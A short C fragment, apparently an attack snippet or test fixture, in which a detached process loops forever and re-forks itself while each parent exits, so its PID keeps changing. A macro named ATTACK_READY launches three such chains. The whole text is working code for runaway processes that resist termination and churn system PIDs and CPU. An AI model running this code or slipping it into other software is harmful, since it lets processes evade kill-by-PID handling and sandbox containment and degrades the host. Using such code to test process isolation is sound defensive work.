static void run() {
    if (fork() != 0) return;
    setsid();
    for (;;) {
        const pid_t next = fork();
        if (next > 0) _exit(0);
        if (next < 0) usleep(1000);
        usleep(1000);
    }
}
#define ATTACK_READY run(), run(), run()
